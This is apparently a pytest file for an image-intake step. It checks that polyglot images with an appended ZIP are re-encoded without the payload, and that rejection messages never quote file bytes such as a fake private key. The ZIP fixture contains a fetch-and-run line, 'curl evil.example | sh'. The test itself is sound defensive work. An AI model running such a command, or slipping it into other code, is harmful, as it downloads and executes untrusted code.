"""image_intake against hostile files: a polyglot (an image with a ZIP appended) never travels
on byte-identical, and a reject's detail never quotes the bytes of the file it refused."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from mmrecipe.context import OpContext
from mmrecipe.imaging import ImageRejected, Limits, check_image
from mmrecipe.registry import build_op
from mmrecipe.sample import ImageRef, Sample


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.sh", "curl evil.example | sh\n")
    return buf.getvalue()


def _intake(tmp_path: Path, **params: object) -> object:
    op = build_op("image_intake", "intake", params)
    op.setup(OpContext(run_dir=tmp_path / "run"))
    return op


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP", "BMP"])
def test_polyglot_is_reencoded_without_the_payload(tmp_path: Path, fmt: str) -> None:
    rng = np.random.default_rng(3)
    im = Image.fromarray(rng.integers(0, 255, (20, 30, 3), dtype=np.uint8))
    buf = io.BytesIO()
    im.save(buf, format=fmt)
    clean = tmp_path / f"clean.{fmt.lower()}"
    clean.write_bytes(buf.getvalue())
    poly = tmp_path / f"poly.{fmt.lower()}"
    poly.write_bytes(buf.getvalue() + _zip())
    assert zipfile.is_zipfile(poly)  # the attack: the file is both an image and an archive

    op = _intake(tmp_path)
    kept_clean, kept_poly = op.process_batch(  # type: ignore[attr-defined]
        [
            Sample(id="c", images=[ImageRef(path=str(clean))]),
            Sample(id="p", images=[ImageRef(path=str(poly))]),
        ]
    )
    out = Path(kept_poly.images[0].path)
    assert out != poly
    if fmt != "GIF":  # (a GIF opens as a palette image, always normalized to RGB)
        assert kept_clean.images[0].path == str(clean)  # a clean file is kept as is
        assert kept_poly.fields["image_fixes"] == ["trailing_data_removed"]
    assert b"payload.sh" not in out.read_bytes() and not zipfile.is_zipfile(out)
    with Image.open(out) as a, Image.open(clean) as b:
        assert np.array_equal(np.asarray(a.convert("RGB")), np.asarray(b.convert("RGB")))


def test_reencode_always_and_never(tmp_path: Path) -> None:
    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (5, 6, 7)).save(buf, format="PNG")
    clean = tmp_path / "a.png"
    clean.write_bytes(buf.getvalue())
    poly = tmp_path / "b.png"
    poly.write_bytes(buf.getvalue() + _zip())
    always = check_image(clean, Limits(reencode="always"))
    assert always.normalized is not None and always.fixes == ["reencoded"]
    never = check_image(poly, Limits(reencode="never"))
    assert never.normalized is None  # documented opt-out: the file travels as it is


def test_a_reject_never_quotes_the_file(tmp_path: Path) -> None:
    secret = tmp_path / "id_rsa.jpg"
    secret.write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n")
    with pytest.raises(ImageRejected) as err:
        check_image(secret, Limits())
    assert err.value.reason == "not_an_image"
    assert "BEGIN" not in err.value.detail and "OPENSSH" not in err.value.detail
    corrupt = tmp_path / "c.png"
    corrupt.write_bytes(b"\x89PNG\r\n\x1a\n" + b"SECRETSECRET" * 20)
    with pytest.raises(ImageRejected) as err:
        check_image(corrupt, Limits())
    assert "SECRET" not in err.value.detail
